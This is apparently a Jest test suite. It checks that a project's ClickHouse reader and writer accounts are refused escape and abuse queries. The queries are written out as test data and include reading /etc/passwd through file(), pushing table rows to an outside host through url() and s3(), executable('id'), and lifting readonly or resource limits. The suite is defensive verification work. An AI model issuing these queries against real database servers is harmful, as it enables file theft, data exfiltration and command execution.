import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { compileAccess } from '../../config/grants.ts';
import { config } from '../../config/loaded.ts';
import { sqlUsers } from '../../config/sql-users.ts';
import { type Engine, startEngine } from '../../local/clickhouse/start-engine.ts';

// What docs/policy.md promises of the shipped accounts, executed on the engine through its HTTP interface.

const PASSWORD = 'only-for-this-test';
const users = sqlUsers(config);
const reader = Object.values(users.readers)[0] ?? '';
const [READONLY, ACCESS_DENIED, SETTING_CONSTRAINT] = [164, 497, 452];
const [TOO_MANY_ROWS, TOO_MANY_RESULT_ROWS, UNSUPPORTED_METHOD] = [158, 396, 1];

let dataDir: string;
let engine: Engine;
/** Where a query that got out would be seen. */
let outside: Server;
let knocks = 0;
let address = '';

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'account-limits-'));
  outside = createServer((_request, response) => {
    knocks++;
    response.end('1\n');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const bound = outside.address();
  address = typeof bound === 'object' && bound !== null ? `127.0.0.1:${bound.port}` : '';
  engine = await startEngine({
    dataDir,
    accounts: [
      { user: 'admin', password: PASSWORD, admin: true },
      ...[users.writer, reader].map((user) => ({ user, password: PASSWORD })),
    ],
    accessSql: compileAccess(config),
  });
  for (const sql of [
    'CREATE DATABASE edgehouse',
    'CREATE TABLE edgehouse.web_events (id UInt64) ENGINE = MergeTree ORDER BY id',
    'INSERT INTO edgehouse.web_events SELECT number FROM numbers(10)',
  ]) {
    expect(await run('admin', sql)).toMatchObject({ code: 0 });
  }
}, 60_000);

afterAll(async () => {
  await engine?.stop();
  outside?.close();
  await rm(dataDir, { recursive: true, force: true });
});

beforeEach(() => {
  knocks = 0;
});

async function run(
  user: string,
  sql: string,
  parameters = '',
): Promise<{ readonly code: number; readonly text: string }> {
  const headers = { 'X-ClickHouse-User': user, 'X-ClickHouse-Key': PASSWORD };
  const url = `${engine.url}/?wait_end_of_query=1${parameters}`;
  const response = await fetch(url, { method: 'POST', headers, body: sql.replaceAll('OUTSIDE', address) });
  const code = Number(response.headers.get('x-clickhouse-exception-code') ?? 0);
  return { code, text: (await response.text()).trim() };
}

describe('a reader', () => {
  test('reads, which is what the refusals below are held against; and the administrator gets out', async () => {
    expect(await run(reader, 'SELECT count() FROM edgehouse.web_events')).toEqual({ code: 0, text: '10' });
    expect(await run('admin', "SELECT * FROM url('http://OUTSIDE/', CSV, 'a UInt8')")).toEqual({ code: 0, text: '1' });
    expect(knocks).toBeGreaterThan(0);
  });

  test.each([
    "SELECT * FROM url('http://OUTSIDE/', CSV, 'a String')",
    "SELECT * FROM file('/etc/passwd', LineAsString)",
    "SELECT file('/etc/passwd')",
    "SELECT * FROM remote('127.0.0.1:9000', system.one)",
    "SELECT * FROM remoteSecure('127.0.0.1:9440', system.one)",
    "SELECT * FROM s3('http://OUTSIDE/bucket/key', CSV, 'a String')",
    "SELECT * FROM gcs('http://OUTSIDE/bucket/key', CSV, 'a String')",
    "SELECT * FROM deltaLake('http://OUTSIDE/bucket/key')",
    "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=Zm9v;BlobEndpoint=http://OUTSIDE/a', 'c', 'b', CSV, 'auto', 'a String')",
    "SELECT * FROM hdfs('hdfs://OUTSIDE/x', CSV, 'a String')",
    "SELECT * FROM redis('OUTSIDE', 'k', 'k String, v String')",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * APPLY(file) FROM (SELECT '/etc/passwd' AS x)",
    "SELECT * FROM mysql('OUTSIDE', 'd', 't', 'u', 'p')",
    "SELECT * FROM postgresql('OUTSIDE', 'd', 't', 'u', 'p')",
    "SELECT * FROM mongodb('OUTSIDE', 'd', 't', 'u', 'p', 'a String')",
    "SELECT * FROM sqlite('/tmp/x.db', 't')",
    "SELECT * FROM executable('id', LineAsString, 'a String')",
    "INSERT INTO FUNCTION url('http://OUTSIDE/', CSV, 'a UInt64') SELECT id FROM edgehouse.web_events",
    "INSERT INTO FUNCTION file('out.csv', CSV, 'a UInt64') SELECT id FROM edgehouse.web_events",
    "INSERT INTO FUNCTION remote('127.0.0.1:9000', edgehouse.web_events) SELECT 1",
    "INSERT INTO FUNCTION s3('http://OUTSIDE/bucket/key', CSV, 'a UInt64') SELECT id FROM edgehouse.web_events",
    "CREATE TEMPORARY TABLE t (a String) ENGINE = URL('http://OUTSIDE/', CSV)",
    "CREATE TABLE edgehouse.t (a String) ENGINE = URL('http://OUTSIDE/', CSV)",
    "CREATE DICTIONARY edgehouse.d (a UInt64) PRIMARY KEY a SOURCE(HTTP(URL 'http://OUTSIDE/' FORMAT CSV)) LAYOUT(FLAT()) LIFETIME(0)",
    "SELECT * FROM edgehouse.web_events INTO OUTFILE '/tmp/out.csv'",
    "BACKUP TABLE edgehouse.web_events TO File('/tmp/b')",
    'INSERT INTO edgehouse.web_events VALUES (1)',
    'SELECT * FROM edgehouse.web_events SETTINGS readonly = 0',
    'SELECT * FROM edgehouse.web_events SETTINGS readonly = 2',
    'SET readonly = 0',
    'SET readonly = 2',
    'SET max_execution_time = 600',
    'SELECT 1 SETTINGS max_result_rows = 0',
    'SELECT 1 SETTINGS max_memory_usage = 0',
    'SELECT 1 SETTINGS max_threads = 64',
    'SELECT 1 SETTINGS max_execution_time = 31',
  ])('is refused, and nothing leaves: %s', async (sql) => {
    const { code, text } = await run(reader, sql);

    expect({ code, text, knocks }).toEqual({ code: expect.any(Number), text: expect.any(String), knocks: 0 });
    expect(code).not.toBe(0);
    // The front lets nobody write a file of the server with OUTFILE.
    if (code !== UNSUPPORTED_METHOD) expect([READONLY, ACCESS_DENIED, SETTING_CONSTRAINT]).toContain(code);
  });

  test.each(['&readonly=0', '&readonly=2', '&max_execution_time=600', '&max_result_rows=0'])(
    'cannot lift a limit in the address: %s',
    async (parameters) => {
      const { code } = await run(reader, 'SELECT 1', parameters);

      expect([READONLY, SETTING_CONSTRAINT]).toContain(code);
    },
  );

  test.each(['', '&profile=default'])(
    'gets no more rows than its profile allows, and an error instead of a part; another profile does not help: %s',
    async (parameters) => {
      const { code } = await run(reader, 'SELECT number FROM numbers(1000001)', parameters);

      expect(code).toBe(TOO_MANY_RESULT_ROWS);
    },
  );
});

describe('the writer, which may read no table', () => {
  test.each([
    "INSERT INTO edgehouse.web_events SELECT length(file('/etc/passwd'))",
    "INSERT INTO edgehouse.web_events VALUES (length(file('/etc/passwd')))",
    "SELECT 1 SETTINGS additional_result_filter = 'length(file(\\'/etc/passwd\\')) > 1'",
    "SELECT file('/etc/passwd')",
  ])('reads no file of the machine either: %s', async (sql) => {
    const { code } = await run(users.writer, sql);

    expect([ACCESS_DENIED, SETTING_CONSTRAINT, 344]).toContain(code);
  });

  test.each([
    'SELECT count() FROM system.numbers',
    'SELECT count() FROM system.numbers_mt',
    'SELECT count() FROM system.zeros_mt',
    'SELECT count() FROM numbers(100000000000)',
    'SELECT count() FROM numbers_mt(100000000000)',
    "SELECT count() FROM generateRandom('a UInt64')",
    'SELECT count() FROM (SELECT number FROM system.numbers LIMIT 9999999) AS a CROSS JOIN (SELECT number FROM system.numbers LIMIT 9999999) AS b',
    'INSERT INTO edgehouse.web_events SELECT number FROM system.numbers',
    "SELECT count() FROM system.numbers SETTINGS profile = 'default'",
  ])('cannot keep the server busy with rows out of nothing: %s', async (sql) => {
    const { code } = await run(users.writer, sql);

    expect(code).toBe(TOO_MANY_ROWS);
  });

  test.each([
    'max_rows_to_read = 0',
    "read_overflow_mode = 'break'",
    'max_result_rows = 0',
    "result_overflow_mode = 'break'",
    "timeout_overflow_mode = 'break'",
    'max_execution_time = 0',
    'max_execution_time = 16',
    'max_memory_usage = 0',
  ])('cannot lift the bound on it: %s', async (setting) => {
    const inSql = await run(users.writer, `SELECT count() FROM system.numbers SETTINGS ${setting}`);
    const inAddress = await run(users.writer, 'SELECT 1', `&${setting.replaceAll(/[ ']/g, '')}`);

    expect([inSql.code, inAddress.code]).toEqual([SETTING_CONSTRAINT, SETTING_CONSTRAINT]);
  });

  test('cannot turn what it can read without a right into more than one row', async () => {
    const { code } = await run(users.writer, 'SELECT number FROM system.numbers LIMIT 2');

    expect(code).toBe(TOO_MANY_RESULT_ROWS);
  });
});
